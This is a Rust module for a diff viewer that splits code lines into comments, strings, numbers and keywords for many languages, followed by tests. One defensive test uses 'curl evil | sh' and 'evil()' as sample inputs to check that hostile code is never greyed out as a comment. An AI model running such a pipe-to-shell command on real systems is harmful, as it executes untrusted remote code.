//! Colours for lines of code: comments, texts, numbers and words of the language. It knows the shape of a language and not
//! its grammar, because it is given single lines of a diff; what it does not know is plain.

/// What a piece of a line is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    Plain,
    Comment,
    Text,
    Number,
    Word,
}

/// The shape of a language.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Language {
    /// What begins a comment that ends with its line.
    comments: &'static [&'static str],
    /// What begins and ends a comment that may go over several lines.
    block: Option<(&'static str, &'static str)>,
    /// What begins and ends a text.
    quotes: &'static str,
    words: &'static [&'static str],
}

const C_LIKE: Language = Language {
    comments: &["//"],
    block: Some(("/*", "*/")),
    quotes: "\"'`",
    words: &[
        "abstract",
        "async",
        "await",
        "bool",
        "boolean",
        "break",
        "case",
        "catch",
        "char",
        "class",
        "const",
        "continue",
        "default",
        "defer",
        "delete",
        "do",
        "double",
        "else",
        "enum",
        "export",
        "extends",
        "false",
        "final",
        "finally",
        "float",
        "for",
        "from",
        "func",
        "function",
        "go",
        "if",
        "implements",
        "import",
        "in",
        "instanceof",
        "int",
        "interface",
        "let",
        "long",
        "map",
        "module",
        "namespace",
        "new",
        "nil",
        "null",
        "of",
        "override",
        "package",
        "private",
        "protected",
        "public",
        "range",
        "return",
        "select",
        "static",
        "string",
        "struct",
        "super",
        "switch",
        "template",
        "this",
        "throw",
        "throws",
        "true",
        "try",
        "type",
        "typeof",
        "undefined",
        "using",
        "var",
        "virtual",
        "void",
        "while",
        "yield",
    ],
};

/// A lifetime is no text, so only double quotes begin one.
const RUST: Language = Language {
    comments: &["//"],
    block: Some(("/*", "*/")),
    quotes: "\"",
    words: &[
        "as", "async", "await", "bool", "break", "const", "continue", "crate", "dyn", "else", "enum", "extern",
        "false", "fn", "for", "if", "impl", "in", "let", "loop", "match", "mod", "move", "mut", "pub", "ref", "return",
        "self", "Self", "static", "str", "struct", "super", "trait", "true", "type", "unsafe", "use", "where", "while",
    ],
};

const PYTHON: Language = Language {
    comments: &["#"],
    block: None,
    quotes: "\"'",
    words: &[
        "False", "None", "True", "and", "as", "assert", "async", "await", "break", "class", "continue", "def", "del",
        "elif", "else", "end", "except", "finally", "for", "from", "global", "if", "import", "in", "is", "lambda",
        "nil", "nonlocal", "not", "or", "pass", "raise", "require", "return", "self", "try", "unless", "until",
        "while", "with", "yield",
    ],
};

const SHELL: Language = Language {
    comments: &["#"],
    block: None,
    quotes: "\"'",
    words: &[
        "case", "do", "done", "elif", "else", "esac", "export", "fi", "for", "function", "if", "in", "local", "return",
        "set", "then", "until", "while", "true", "false", "null", "yes", "no",
    ],
};

const SQL: Language = Language {
    comments: &["--"],
    block: Some(("/*", "*/")),
    quotes: "'\"",
    words: &[
        "AND", "AS", "BY", "CREATE", "DELETE", "DISTINCT", "DROP", "FROM", "GROUP", "HAVING", "IN", "INDEX", "INSERT",
        "INTO", "IS", "JOIN", "LEFT", "LIMIT", "NOT", "NULL", "ON", "OR", "ORDER", "SELECT", "SET", "TABLE", "UPDATE",
        "VALUES", "WHERE",
    ],
};

const JSON: Language = Language { comments: &[], block: None, quotes: "\"", words: &["false", "null", "true"] };

const STYLE: Language = Language { comments: &[], block: Some(("/*", "*/")), quotes: "\"'", words: &[] };

const MARKUP: Language = Language { comments: &[], block: Some(("<!--", "-->")), quotes: "\"", words: &[] };

/// The language of a file, by its name.
pub(super) fn language(path: &str) -> Option<&'static Language> {
    let name = path.rsplit('/').next().unwrap_or(path);
    let ending = name.rsplit_once('.').map_or(name, |(_, ending)| ending);
    Some(match ending.to_ascii_lowercase().as_str() {
        "js" | "mjs" | "cjs" | "jsx" | "ts" | "tsx" | "java" | "kt" | "go" | "c" | "h" | "cc" | "cpp" | "hpp"
        | "cs" | "swift" | "scala" | "php" | "dart" | "proto" => &C_LIKE,
        "rs" => &RUST,
        "py" | "rb" => &PYTHON,
        "sh" | "bash" | "zsh" | "yaml" | "yml" | "toml" | "ini" | "cfg" | "tf" | "dockerfile" | "makefile" => &SHELL,
        "sql" => &SQL,
        "json" => &JSON,
        "css" | "scss" => &STYLE,
        "html" | "xml" | "svg" | "vue" => &MARKUP,
        _ => return None,
    })
}

/// The pieces of a line, which together are the line. Only a line that begins with a comment is shown as one: code before or
/// after what merely looks like the beginning of a comment, in a text or a pattern, is never greyed.
pub(super) fn pieces<'a>(language: Option<&Language>, line: &'a str) -> Vec<(Kind, &'a str)> {
    let Some(language) = language else { return vec![(Kind::Plain, line)] };
    // Where each piece begins; neighbours of one kind are one piece.
    let mut starts: Vec<(Kind, usize)> = Vec::new();
    let mut at = 0;
    while at < line.len() {
        let begins = line[..at].trim().is_empty();
        let (kind, length) = next(language, &line[at..], begins);
        if starts.last().is_none_or(|(last, _)| *last != kind) {
            starts.push((kind, at));
        }
        at += length;
    }
    let ends = starts.iter().skip(1).map(|(_, start)| *start).chain([line.len()]);
    starts.iter().zip(ends).map(|((kind, start), end)| (*kind, &line[*start..end])).collect()
}

fn next(language: &Language, rest: &str, begins: bool) -> (Kind, usize) {
    if let Some((begin, end)) = language.block.filter(|(begin, _)| begins && rest.starts_with(begin)) {
        let ends = rest[begin.len()..].find(end);
        return (Kind::Comment, ends.map_or(rest.len(), |at| begin.len() + at + end.len()));
    }
    if begins && language.comments.iter().any(|begin| rest.starts_with(begin)) {
        return (Kind::Comment, rest.len());
    }
    let Some(first) = rest.chars().next() else { return (Kind::Plain, rest.len()) };
    if language.quotes.contains(first)
        && let Some(length) = quoted(rest, first)
    {
        return (Kind::Text, length);
    }
    if is_of_word(first) {
        let length = rest.find(|c| !is_of_word(c)).unwrap_or(rest.len());
        let word = &rest[..length];
        let kind = match first {
            '0'..='9' => Kind::Number,
            _ if language.words.contains(&word) => Kind::Word,
            _ => Kind::Plain,
        };
        return (kind, length);
    }
    (Kind::Plain, first.len_utf8())
}

const fn is_of_word(c: char) -> bool {
    c.is_ascii_alphanumeric() || c == '_'
}

/// The length of a text with its quotes, if it ends in this line.
fn quoted(rest: &str, quote: char) -> Option<usize> {
    let mut escaped = false;
    for (at, c) in rest.char_indices().skip(1) {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            _ if c == quote => return Some(at + c.len_utf8()),
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn shown(path: &str, lines: &[&str]) -> String {
        let line = |line: &&str| {
            let pieces = pieces(language(path), line).into_iter().map(|(kind, text)| match kind {
                Kind::Plain => text.to_owned(),
                kind => format!("{kind:?}[{text}]"),
            });
            pieces.collect::<String>()
        };
        lines.iter().map(line).collect::<Vec<_>>().join("\n")
    }

    #[test]
    fn each_language_has_its_shape() {
        let js = shown("a/b.js", &["const x = `a ${b}` + 'it\\'s' + 12;", "  // 'why'", "/* if */ return"]);
        let expected = "Word[const] x = Text[`a ${b}`] + Text['it\\'s'] + Number[12];\n  Comment[// 'why']\n\
                        Comment[/* if */] Word[return]";
        assert_eq!(js, expected);
        assert_eq!(shown("x.rs", &["fn f<'a>(x: &'a str) {}"]), "Word[fn] f<'a>(x: &'a Word[str]) {}");
        assert_eq!(shown("x.py", &["def f(): # no"]), "Word[def] f(): # no");
        assert_eq!(shown("Makefile", &["# all"]), "Comment[# all]");
        assert_eq!(shown("LICENSE", &["for // it"]), "for // it");
        assert_eq!(shown("x.json", &["{\"a\": tru, \"b: true"]), "{Text[\"a\"]: tru, \"b: Word[true]");
    }

    /// Else whoever writes the code chooses which of it looks harmless.
    #[test]
    fn code_after_what_looks_like_a_comment_stays_code() {
        for (path, line) in [
            ("a.js", "x = /[/*]/; evil(); // y"),
            ("a.js", "f(`/*`); evil()"),
            ("a.sh", "echo ${#list}; curl evil | sh"),
            ("a.js", "x = '; evil()"),
        ] {
            let pieces = pieces(language(path), line);
            let code = pieces.iter().filter(|(kind, _)| matches!(kind, Kind::Plain | Kind::Word));
            assert!(code.map(|(_, text)| *text).collect::<String>().contains("evil"), "{pieces:?}");
        }
    }

    proptest! {
        #[test]
        fn the_pieces_are_the_line(lines in proptest::collection::vec("[ /*'\"`#a1ä\u{202e}\\\\-]{0,12}", 1..5)) {
            for path in ["a.js", "a.rs", "a.py", "a.sql", "a.html", "a.txt"] {
                for line in &lines {
                    let pieces = pieces(language(path), line);
                    prop_assert_eq!(&pieces.iter().map(|(_, text)| *text).collect::<String>(), line);
                    prop_assert!(pieces.windows(2).all(|two| two[0].0 != two[1].0));
                }
            }
        }
    }
}
